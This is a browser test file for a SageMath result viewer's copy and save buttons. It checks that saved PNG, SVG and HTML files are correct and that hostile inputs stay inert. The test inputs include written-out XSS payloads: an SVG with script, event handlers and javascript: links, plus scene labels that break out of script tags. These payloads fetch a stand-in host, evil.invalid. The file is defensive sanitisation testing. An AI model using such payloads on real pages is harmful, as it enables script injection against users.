// Copying and saving from the viewer, in both host setups (host.js), on a
// real run_sagemath result (a formula, a PNG figure, an SVG figure, a 3D
// plot) and on hostile items (attacks.test.js's payloads, in an SVG and in
// a 3D scene's labels), pressed as a user presses the buttons (a click, or
// Enter on the focused button):
//
//   - Copy LaTeX puts the formula's exact source on the clipboard (read
//     back from the browser's clipboard by the host page);
//   - Save PNG / SVG / HTML reach the host as ui/download-file (the
//     reference host offers downloadFile), or, from a host without it,
//     give a data: link; either way the file is right: the PNG is the
//     figure's bytes, the SVG parses, keeps the figure and has no script,
//     handler, outside link or reference; the HTML, opened from disk in
//     chromium with the network off, draws the scene (non-blank canvas)
//     with three.js inlined, its scene in a JSON block, under a CSP of
//     script hashes and no origin: no request, no CSP error, no page error;
//   - the hostile SVG and scene stay inert in their saved files: nothing
//     runs (no marker posted, no request), the scene's hostile labels come
//     back intact as data.
// Saved files and screenshots: VIEWER_ARTIFACTS/saved-*.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';

import { ARTIFACTS, HOSTS, canvasPixels, launchBrowser, openViewer, run, startSagebox, stop } from './harness.js';
import { emitCode, js, payload, scene } from './hostile.js';

const CODE = String.raw`
x, y = var('x y')
show(integral(1/(1+x^4), x))
plot(sin(x), (x, 0, 2*pi)).show()
dm = sage.repl.rich_output.get_display_manager()
dm.preferences.graphics = 'vector'
plot(cos(x), (x, 0, 2*pi)).show()
dm.preferences.graphics = None
plot3d(sin(x)*cos(y), (x, -2, 2), (y, -2, 2), plot_points=20, color='orange').show()
`;

// What ran, if anything did: a marker posted, and a request to evil.invalid.
const ran = (name) => `${payload(name)};fetch('http://evil.invalid/ran-${name}')`;
// Well-formed (the viewer shows no SVG that is not): the payloads escaped
// as XML wants them.
const attr = (v) => v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
const HOSTILE_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" ' +
  `onload="${attr(ran('svg-onload'))}"><script><![CDATA[${ran('svg-script')}]]></script>` +
  '<style>.far{fill:url(http://evil.invalid/style-fill)}</style>' +
  `<a href="${attr(js('svg-link'))}" xlink:href="${attr(js('svg-link'))}"><rect id="r" width="100" height="50" fill="blue" ` +
  `onclick="${attr(ran('svg-onclick'))}"/></a><rect class="far" x="100" width="100" height="50" ` +
  'style="fill:url(http://evil.invalid/attr-fill)"/><image href="http://evil.invalid/image.png" width="10" height="10"/>' +
  '<use href="#r" y="50"/></svg>';
// Labels are at most 256 characters (limits.js): a short payload each.
const HOSTILE_LABELS = ["</script><script>parent.postMessage({pwned:'label'},'*');fetch('http://evil.invalid/label')</script>",
  '<!--<script>', '<img src=x onerror="fetch(\'http://evil.invalid/img\')">'];
const HOSTILE_SCENE = scene({
  texts: HOSTILE_LABELS.map((text, i) => ({ text, x: 0.2 * i, y: 0.5, z: 0.5, color: '#000000', fontSize: 14 })),
});

let sb, browser, real, hostile;

before(async () => {
  sb = await startSagebox();
  real = await run(sb.client, 'run_sagemath', CODE);
  assert.equal(real.isError, false, JSON.stringify(real.structuredContent));
  assert.deepEqual(real.structuredContent.display.map((d) => d.kind), ['latex', 'png', 'svg', 'threejs']);
  hostile = await run(sb.client, 'run_python', emitCode('export', [['svg', HOSTILE_SVG], ['threejs', JSON.stringify(HOSTILE_SCENE)]]));
  assert.equal(hostile.isError, false, JSON.stringify(hostile.structuredContent));
  assert.deepEqual(hostile.structuredContent.display.map((d) => d.kind), ['svg', 'threejs', 'text']);
  browser = await launchBrowser();
  await browser.defaultBrowserContext().overridePermissions(CLIP, ['clipboard-read', 'clipboard-sanitized-write']);
}, { timeout: 900000 });

after(() => stop(browser, sb));

// The browser's clipboard, read from a page of its own on a secure origin
// (the test hosts' http://host.invalid is none, so the clipboard API is
// absent there), answered from memory.
const CLIP = 'http://localhost';
async function clipboard(write) {
  const page = await browser.newPage();
  try {
    await page.setRequestInterception(true);
    page.on('request', (req) => (req.url() === `${CLIP}/` ? req.respond({ status: 200, contentType: 'text/html', body: '<title>clipboard</title>' })
      : req.abort()));
    await page.goto(`${CLIP}/`);
    return await page.evaluate((w) => (w === undefined ? navigator.clipboard.readText() : navigator.clipboard.writeText(w)), write);
  } finally {
    await page.close();
  }
}

// The button labelled `label` under the n-th item matching `selector`.
async function button(frame, selector, label, n = 0) {
  const h = await frame.evaluateHandle((sel, label, n) => {
    const item = document.querySelectorAll(sel)[n];
    const bar = item && item.closest('.result-item')?.querySelector('.actions');
    return bar ? [...bar.querySelectorAll('button')].find((b) => b.textContent === label) : null;
  }, selector, label, n);
  const b = h.asElement();
  assert.ok(b, `no "${label}" button under ${selector}`);
  return b;
}

// The bar's status line once it says something.
async function status(v, b) {
  try {
    const h = await v.viewer.waitForFunction((b) => b.parentElement.querySelector('.status').textContent, { timeout: 20000 }, b);
    return await h.jsonValue();
  } catch (e) {
    const spy = await v.page.evaluate(() => [window.spy.map(([m]) => m), document.getElementById('app').offsetHeight]);
    const where = await b.evaluate((b) => [b.textContent, Math.round(b.getBoundingClientRect().bottom),
      Math.round(document.documentElement.getBoundingClientRect().height), innerHeight]);
    throw new Error(`no status after pressing ${JSON.stringify(where)} (button, its bottom, the page's height, the frame's): ` +
      `${e.message}; host saw ${JSON.stringify(spy)}; page errors ${JSON.stringify(v.rec.pageErrors)}`);
  }
}

// Presses the button and returns the file the host was asked to save, or,
// without a host download, the one behind the data: link the button made.
async function save(v, b, viaHost, keyboard = false) {
  const before = await v.page.evaluate(() => window.spy.length);
  await v.page.bringToFront(); // after a saved file's own page
  if (keyboard) {
    await b.focus();
    await v.page.keyboard.press('Enter');
  } else {
    await b.click();
  }
  const said = await status(v, b);
  if (viaHost) {
    await v.page.waitForFunction((n) => window.spy.length > n, {}, before);
    const [method, params] = await v.page.evaluate((n) => window.spy[n], before);
    assert.equal(method, 'ui/download-file');
    assert.equal(params.contents.length, 1);
    const { type, resource } = params.contents[0];
    assert.equal(type, 'resource');
    assert.match(said, /^Sent .* to the host/);
    const name = decodeURIComponent(resource.uri.replace('file:///', ''));
    return { name, mime: resource.mimeType,
      bytes: resource.blob !== undefined ? Buffer.from(resource.blob, 'base64') : Buffer.from(resource.text, 'utf8') };
  }
  const link = await v.viewer.evaluate((b) => {
    const a = b.parentElement.querySelector('a.saved');
    return a && { href: a.href, name: a.download, text: a.textContent, focused: document.activeElement === a };
  }, b);
  assert.ok(link, `no data: link (${said})`);
  assert.ok(link.focused, 'the link has the focus');
  const m = /^data:([^;,]+)(?:;charset=utf-8)?;base64,(.*)$/.exec(link.href);
  assert.ok(m, `not a data: link: ${link.href.slice(0, 80)}`);
  assert.equal(link.text, link.name);
  return { name: link.name, mime: m[1], bytes: Buffer.from(m[2], 'base64') };
}

// A saved file opened from disk in a page of its own, the network off:
// every request but the file's own is recorded and refused, and any
// message a script posts is recorded.
async function openSaved(file) {
  const url = pathToFileURL(file).href;
  const page = await browser.newPage();
  const rec = { network: [], cspErrors: [], pageErrors: [] };
  await page.setOfflineMode(true);
  await page.setRequestInterception(true);
  page.on('request', (req) => {
    if (req.url() === url) return req.continue();
    rec.network.push(req.url());
    return req.abort();
  });
  page.on('console', (m) => { if (/Content Security Policy|Refused to/.test(m.text())) rec.cspErrors.push(m.text()); });
  page.on('pageerror', (e) => rec.pageErrors.push(String(e)));
  await page.evaluateOnNewDocument(() => {
    window.posted = [];
    addEventListener('message', (e) => window.posted.push(JSON.stringify(e.data)));
  });
  await page.goto(url);
  return { page, rec };
}

function checkPng(file, block) {
  assert.equal(file.mime, 'image/png');
  assert.match(file.name, /\.png$/);
  assert.deepEqual([...file.bytes.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'PNG magic bytes');
  assert.ok(file.bytes.equals(Buffer.from(block.data, 'base64')), 'the figure\'s own bytes');
}

// The SVG file: well-formed, an <svg>, with none of what would run or load.
async function checkSvg(file, tag) {
  assert.equal(file.mime, 'image/svg+xml');
  assert.match(file.name, /\.svg$/);
  const saved = path.join(ARTIFACTS, `saved-${tag}.svg`);
  writeFileSync(saved, file.bytes);
  const { page, rec } = await openSaved(saved);
  try {
    const doc = await page.evaluate(() => {
      const root = document.documentElement;
      const all = [...document.getElementsByTagName('*')];
      return {
        root: root.localName, ns: root.namespaceURI, shapes: all.length,
        error: !!document.querySelector('parsererror'),
        scripts: all.filter((e) => /^(script|foreignobject|iframe|object|embed)$/i.test(e.localName)).length,
        handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
        links: all.flatMap((e) => [...e.attributes].filter((a) => a.localName === 'href' && !/^#|^data:image\/(png|jpeg)/.test(a.value))
          .map((a) => a.value)),
        posted: window.posted,
      };
    });
    assert.equal(doc.error, false, 'the SVG parses');
    assert.deepEqual([doc.root, doc.ns], ['svg', 'http://www.w3.org/2000/svg']);
    assert.equal(doc.scripts, 0, 'no script');
    assert.deepEqual(doc.handlers, [], 'no handler');
    assert.deepEqual(doc.links, [], 'no link but to #id');
    assert.doesNotMatch(file.bytes.toString('utf8'), /evil\.invalid|javascript:/i);
    // Clicked all over, as a user might.
    for (const [x, y] of [[20, 20], [150, 20], [50, 75]]) await page.mouse.click(x, y);
    await new Promise((r) => setTimeout(r, 300));
    assert.deepEqual(await page.evaluate(() => window.posted), [], 'a script in the SVG ran');
    assert.deepEqual(rec.network, [], 'the SVG loaded something');
    assert.deepEqual(rec.pageErrors, []);
    await page.screenshot({ path: path.join(ARTIFACTS, `saved-${tag}-svg.png`) });
    return doc;
  } finally {
    await page.close();
  }
}

// The HTML file: opened offline, it draws the scene with its own scripts only.
async function checkHtml(file, tag) {
  assert.equal(file.mime, 'text/html');
  assert.match(file.name, /\.html$/);
  const text = file.bytes.toString('utf8');
  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(text);
  assert.ok(csp, 'a CSP in the file');
  const directives = Object.fromEntries(csp[1].split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(directives['default-src'], ["'none'"]);
  assert.equal(directives['script-src'].length, 2);
  for (const src of directives['script-src']) assert.match(src, /^'sha256-[A-Za-z0-9+/]+=*'$/, 'scripts by hash only');
  for (const src of Object.values(directives).flat()) assert.match(src, /^('[a-z0-9-]+'|'sha256-[^']+'|data:)$/, `no origin: ${src}`);
  const saved = path.join(ARTIFACTS, `saved-${tag}.html`);
  writeFileSync(saved, file.bytes);
  const { page, rec } = await openSaved(saved);
  try {
    await page.waitForSelector('#view canvas', { timeout: 20000 });
    await new Promise((r) => setTimeout(r, 1000));
    const drawn = await canvasPixels(page.mainFrame(), '#view canvas');
    assert.ok(drawn.drawn > drawn.total * 0.02, `the saved scene is nearly blank: ${JSON.stringify(drawn)}`);
    const page3d = await page.evaluate(() => ({
      scripts: [...document.scripts].map((s) => s.type || 'classic'),
      scene: JSON.parse(document.getElementById('scene').textContent),
      error: document.getElementById('view').textContent.includes('could not be drawn'),
      posted: window.posted,
    }));
    assert.deepEqual(page3d.scripts, ['application/json', 'classic', 'classic'], 'the data block, three.js, the scene\'s script');
    assert.equal(page3d.error, false);
    await page.screenshot({ path: path.join(ARTIFACTS, `saved-${tag}-html.png`) });
    assert.deepEqual(page3d.posted, [], 'a script from the scene ran');
    assert.deepEqual(rec.network, [], 'the saved page made requests');
    assert.deepEqual(rec.cspErrors, [], 'CSP violations: its own scripts must match their hashes');
    assert.deepEqual(rec.pageErrors, [], 'page errors');
    return page3d.scene;
  } finally {
    await page.close();
  }
}

const imageBlock = (result, index) => result.content.filter((b) => b.type === 'image')[index];

for (const host of HOSTS) {
  test(`${host} host: Copy LaTeX, Save PNG, Save SVG, Save HTML through the host's ui/download-file`, { timeout: 300000 }, async () => {
    const v = await openViewer(browser, host, sb, real, { height: 2400 }); // the whole result on screen
    try {
      await v.viewer.waitForSelector('.item.threejs canvas');
      const d = real.structuredContent.display;

      // Copy LaTeX, by keyboard: the formula's exact source on the clipboard.
      await clipboard('not copied yet');
      const copy = await button(v.viewer, '.item.latex', 'Copy LaTeX');
      await copy.focus();
      await v.page.keyboard.press('Enter');
      assert.equal(await status(v, copy), 'Copied the LaTeX source.');
      assert.equal(await clipboard(), d[0].latex);

      checkPng(await save(v, await button(v.viewer, '.item.png:not(.svg)', 'Save PNG'), true), imageBlock(real, d[1].image));
      const svg = await checkSvg(await save(v, await button(v.viewer, '.item.svg', 'Save SVG'), true, true), `real-${host}`);
      assert.ok(svg.shapes > 20, `the figure is in the SVG: ${svg.shapes} elements`);
      const sc = await checkHtml(await save(v, await button(v.viewer, '.item.threejs', 'Save HTML'), true), `real-${host}`);
      assert.deepEqual(sc, d[3].scene, 'the scene saved is the one shown');

      assert.deepEqual((await v.page.evaluate(() => window.spy)).map(([m]) => m), Array(3).fill('ui/download-file'),
        'the viewer asked the host for nothing else');
      assert.deepEqual(v.rec.network, []);
      assert.deepEqual(v.rec.cspErrors, []);
      assert.deepEqual(v.rec.pageErrors, []);
    } finally {
      await v.page.close();
    }
  });

  test(`${host} host: hostile SVG and scene labels stay inert in their saved files`, { timeout: 300000 }, async () => {
    const v = await openViewer(browser, host, sb, hostile);
    try {
      await v.viewer.waitForSelector('.item.threejs canvas');
      const svg = await checkSvg(await save(v, await button(v.viewer, '.item.svg', 'Save SVG'), true), `hostile-${host}`);
      assert.ok(svg.shapes >= 3, 'the drawing is kept');
      const sc = await checkHtml(await save(v, await button(v.viewer, '.item.threejs', 'Save HTML'), true), `hostile-${host}`);
      assert.deepEqual(sc.texts.map((t) => t.text), HOSTILE_LABELS, 'the labels come back as data');
      assert.deepEqual((await v.page.evaluate(() => window.spy)).map(([m]) => m), ['ui/download-file', 'ui/download-file']);
    } finally {
      await v.page.close();
    }
  });
}

test('a host without downloads: each Save gives a data: link with the same file', { timeout: 300000 }, async () => {
  const v = await openViewer(browser, 'project', sb, real, { downloads: false });
  try {
    await v.viewer.waitForSelector('.item.threejs canvas');
    const d = real.structuredContent.display;
    checkPng(await save(v, await button(v.viewer, '.item.png:not(.svg)', 'Save PNG'), false), imageBlock(real, d[1].image));
    await checkSvg(await save(v, await button(v.viewer, '.item.svg', 'Save SVG'), false), 'link');
    const sc = await checkHtml(await save(v, await button(v.viewer, '.item.threejs', 'Save HTML'), false, true), 'link');
    assert.deepEqual(sc, d[3].scene);
    await v.page.screenshot({ path: path.join(ARTIFACTS, 'saved-links-page.png'), fullPage: true });
    assert.deepEqual(await v.page.evaluate(() => window.spy), [], 'nothing asked of a host that cannot save');
    assert.deepEqual(v.rec.network, []);
    assert.deepEqual(v.rec.pageErrors, []);
  } finally {
    await v.page.close();
  }
});
